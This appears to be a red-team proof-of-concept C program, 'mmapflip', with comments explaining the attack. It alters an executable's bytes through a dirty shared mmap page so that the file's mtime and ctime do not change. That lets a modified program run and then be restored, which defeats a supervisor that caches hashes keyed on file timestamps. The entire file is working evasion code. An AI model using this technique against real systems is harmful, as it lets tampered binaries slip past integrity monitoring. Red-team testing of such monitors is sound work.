// mmapflip changes a file's content without a new mtime or ctime (found by
// the second red team): the kernel stamps the times on the first write fault
// of a clean page of a shared writable mapping, not on later stores to the
// same page. A copy of SRC with one byte changed is run once (the exec is
// decided, and its digest taken, before the kernel fails it with ETXTBSY),
// then the byte is put back through the mapping: DST is an exact copy of
// SRC again, under the same file identity.
//
//	mmapflip SRC DST OFFSET ARG1 ARG2
//
// DST runs with ARG1 before the byte is put back and with ARG2 after.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void run(char *path, char *arg) {
	fflush(stdout);
	pid_t c = fork();
	if (c == 0) {
		char *args[] = {path, arg, NULL};
		execv(path, args);
		perror("execv");
		_exit(127);
	}
	waitpid(c, NULL, 0);
}

int main(int argc, char **argv) {
	if (argc != 6) {
		fprintf(stderr, "usage: mmapflip SRC DST OFFSET ARG1 ARG2\n");
		return 2;
	}
	char *src = argv[1], *dst = argv[2];
	long off = atol(argv[3]);
	int in = open(src, O_RDONLY);
	struct stat st;
	if (in < 0 || fstat(in, &st) < 0 || off >= st.st_size)
		return 2;
	char *buf = malloc(st.st_size);
	if (read(in, buf, st.st_size) != st.st_size)
		return 2;
	close(in);
	int fd = open(dst, O_RDWR | O_CREAT | O_TRUNC, 0755);
	if (fd < 0 || write(fd, buf, st.st_size) != st.st_size)
		return 2;
	char *m = mmap(NULL, st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (m == MAP_FAILED)
		return 2;
	char orig = m[off];
	m[off] ^= 0x20; // the first write fault: mtime and ctime are stamped now
	struct stat before, after;
	fstat(fd, &before);
	// A different program: the supervisor hashes it (and may cache the
	// hash); the kernel then refuses to run a file open for writing.
	run(dst, argv[4]);
	m[off] = orig; // the page is dirty and writable: no fault, no new times
	fstat(fd, &after);
	munmap(m, st.st_size);
	close(fd);
	printf("ctime %s\n", before.st_ctim.tv_sec == after.st_ctim.tv_sec && before.st_ctim.tv_nsec == after.st_ctim.tv_nsec ? "unchanged" : "changed");
	run(dst, argv[5]); // byte for byte SRC again
	return 0;
}
